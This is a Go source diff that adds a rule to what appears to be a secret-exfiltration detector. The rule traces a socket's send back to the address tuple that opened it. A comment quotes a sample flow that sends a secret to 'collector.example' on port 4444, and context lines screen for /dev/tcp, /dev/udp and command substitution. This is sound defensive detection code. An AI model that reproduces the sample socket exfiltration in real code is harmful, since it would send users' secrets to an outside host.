@@ -87,3 +87,65 @@ var keygenCmd67 = lazyRegexp(`(?i)^\s*(?:sudo\s+)?(?:ssh-keygen|age-keygen|wg\s+
 func keygenOnly67(t string) bool {
 	return !strings.ContainsAny(t, "|;&`\n") && !strings.Contains(t, "$(") && !strings.Contains(t, "/dev/tcp") && !strings.Contains(t, "/dev/udp") && keygenCmd67.MatchString(t)
 }
+
+// Round 67 (exfil-flow): a socket sends to the address it was opened to.
+//
+// "s = socket.create_connection(('collector.example', 4444))" and, lines
+// later, "s.sendall(secret)": the send names no host, the handle carries
+// the one it was opened to, so the secret goes there, as it would in
+// requests.post(url, data=secret). When a secret reaches a handle's send
+// and the statement names no host, the address tuple (a quoted host or
+// IP and a port) on the line that opened or connected that handle, a few
+// lines up, is the destination; the vendor rules then judge it as any
+// other host (an unknown host is outside, the secret's own provider is
+// not).
+var addrTuple67 = lazyRegexp(`["']((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})["']\s*,\s*\d{2,5}\b`)
+
+func handleHost67(d *doc, u unit, t string, sink []int) (string, bool) {
+	// The handle: the name before the method's dot ("s" of s.sendall(),
+	// the sink found at the dot or at the name).
+	i, j := sink[0], sink[0]
+	for j < len(t) && isIdentByte(t[j]) {
+		j++
+	}
+	if j >= len(t) || t[j] != '.' {
+		return "", false
+	}
+	for i > 0 && isIdentByte(t[i-1]) {
+		i--
+	}
+	h := t[i:j]
+	if h == "" {
+		return "", false
+	}
+	text := d.v.text[max(0, u.start-8000):u.start]
+	for n := 0; n < 60 && text != ""; n++ {
+		k := strings.LastIndexByte(text, '\n')
+		line := text[k+1:]
+		text = text[:max(k, 0)]
+		if k < 0 {
+			text = ""
+		}
+		if strings.HasPrefix(strings.TrimSpace(line), "```") {
+			break // the block's start: no handle opened above it counts
+		}
+		if len(line) > 400 || !strings.Contains(line, h) || !strings.Contains(line, ",") {
+			continue
+		}
+		opened := false
+		if m := sinkHandleRe.FindStringSubmatch(line); m != nil && m[1] == h {
+			opened = true
+		}
+		if c := strings.Index(line, h+".connect("); c >= 0 && identAt(line, c, len(h)) {
+			opened = true
+		}
+		if !opened {
+			continue
+		}
+		if m := addrTuple67.FindStringSubmatch(line); m != nil {
+			return strings.ToLower(m[1]), true
+		}
+		return "", false
+	}
+	return "", false
+}
